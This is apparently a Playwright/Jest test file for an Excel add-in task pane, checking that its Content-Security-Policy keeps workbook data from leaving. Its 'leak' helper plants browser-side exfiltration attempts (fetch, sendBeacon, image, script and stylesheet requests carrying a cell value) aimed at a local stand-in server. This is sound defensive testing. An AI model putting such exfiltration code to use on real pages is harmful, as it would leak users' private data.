import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Frame, Page } from "playwright-core";
import { readFileSync } from "node:fs";
import path from "node:path";
import type { PageServer } from "../../simulator/server/listen";
import { describeInBrowser, watch, type Watched } from "./browser";
import { BUILD_TIMEOUT, startPage } from "./built";
import { paneOf, savedCopy } from "./excelPage";

const SOURCE = readFileSync(path.resolve("src/taskpane/taskpane.html"), "utf8");
/** Shorter waits fail on a busy machine; a test may need several. */
const PATIENCE = 60_000;
jest.setTimeout(4 * PATIENCE);

/** The policy that the production page carries in its head, directive by directive. */
function policyOf(html: string): Readonly<Record<string, readonly string[]>> {
  const policy = /Content-Security-Policy"?\s+content="([^"]*)"/.exec(html)?.[1] ?? "";
  return Object.fromEntries(
    policy.split(";").map((directive) => {
      const [name = "", ...sources] = directive.trim().split(" ");
      return [name, sources];
    }),
  );
}

/** Somebody else's server: it takes whatever it is sent, and remembers it. */
async function stranger(): Promise<{ origin: string; heard: string[]; server: Server }> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? "");
    response.writeHead(204, { "Access-Control-Allow-Origin": "*" }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, heard, server };
}

describeInBrowser("nothing leaves the workbook", ({ browser }) => {
  let server: PageServer;
  let page: Page;
  let pane: Frame;
  let watched: Watched;

  beforeAll(async () => {
    server = await startPage();
  }, BUILD_TIMEOUT);
  afterAll(() => server.close());

  const open = async (bypassCSP: boolean): Promise<void> => {
    page = await browser().newPage({
      ignoreHTTPSErrors: true,
      bypassCSP,
      viewport: { width: 2000, height: 1000 },
    });
    page.setDefaultTimeout(PATIENCE);
    watched = watch(page);
    await page.goto(`${server.origin}/`);
    pane = await paneOf(page);
  };
  afterEach(() => page.close());

  test("the page is served with the production policy, but for Microsoft's address", async () => {
    await open(false);
    const served = policyOf(await (await page.request.get(`${server.origin}/taskpane.html`)).text());
    expect(served).toEqual({
      "default-src": ["'none'"],
      "script-src": ["'self'"],
      "style-src": ["'self'", "'unsafe-inline'"],
      "img-src": ["'self'", "data:"],
      "connect-src": ["'self'"],
    });
    expect(policyOf(SOURCE)).toEqual({
      ...served,
      "script-src": ["'self'", "https://appsforoffice.microsoft.com"],
    });
  });

  test("a whole session asks for nothing but the add-in's own files", async () => {
    await open(false);
    const started = watched.requests.length;
    await pane.getByRole("button", { name: "Evaluate sheet" }).click();
    await pane.getByText(/^Evaluated .* cells written$/).waitFor();
    await pane.getByRole("tab", { name: /^All/ }).click();
    for (const row of [0, 1, 2]) {
      await pane.locator("[role=tabpanel] [data-row-heading]").nth(row).click();
      await pane.locator("[role=tabpanel] [aria-current=true]").waitFor();
    }
    await pane.getByRole("button", { name: "More", exact: true }).click();
    await pane.getByRole("menuitem", { name: "Evaluate workbook" }).click();
    await pane.getByText("6 sheets, 76 KPI rows").waitFor();
    await savedCopy(page);
    await pane.getByRole("button", { name: "Clear results" }).click();
    await pane.getByText(/^Cleared .* put back$/).waitFor();
    await savedCopy(page);

    const isOwn = (url: string): boolean =>
      url.startsWith(`${server.origin}/`) ||
      url.startsWith(`blob:${server.origin}/`) ||
      url.startsWith("data:");
    expect(watched.requests.filter((url) => !isOwn(url))).toEqual([]);
    expect(watched.requests.slice(started).filter((url) => url.startsWith(server.origin))).toEqual([]);
    expect(watched.complaints).toEqual([]);
  });

  /** Tries, from within the pane, each way a script has of sending a cell's content away. */
  const leak = (origin: string): Promise<void> =>
    pane.evaluate(async (to) => {
      const settled = (element: HTMLElement): Promise<void> =>
        new Promise((resolve) => {
          for (const event of ["load", "error"]) element.addEventListener(event, () => resolve());
          document.body.append(element);
        });
      await fetch(`${to}/fetch?K4=75%25`, { mode: "no-cors" }).catch(() => undefined);
      navigator.sendBeacon(`${to}/beacon`, "75%");
      await settled(Object.assign(new Image(), { src: `${to}/image` }));
      await settled(Object.assign(document.createElement("script"), { src: `${to}/script` }));
      const style = Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${to}/style` });
      await settled(style);
    }, origin);

  test.each([
    ["the policy stops it", false, []],
    [
      "nothing else would have stopped it",
      true,
      ["/beacon", "/fetch?K4=75%25", "/image", "/script", "/style"],
    ],
  ])("a leak planted in the pane: %s", async (_, bypassCSP, heard) => {
    await open(bypassCSP);
    const other = await stranger();
    try {
      await leak(other.origin);
      // A beacon is sent in its own time.
      if (heard.length > 0) await expectSoon(() => other.heard.length >= heard.length);
      else await page.waitForTimeout(1000);
      expect([...other.heard].sort()).toEqual(heard);
    } finally {
      other.server.closeAllConnections();
      other.server.close();
    }
    const refused = watched.complaints.filter((text) => text.includes("Content Security Policy"));
    expect(refused.length > 0).toBe(!bypassCSP);
  });
});

async function expectSoon(holds: () => boolean): Promise<void> {
  const end = Date.now() + PATIENCE;
  while (!holds() && Date.now() < end) await new Promise((resolve) => setTimeout(resolve, 100));
}
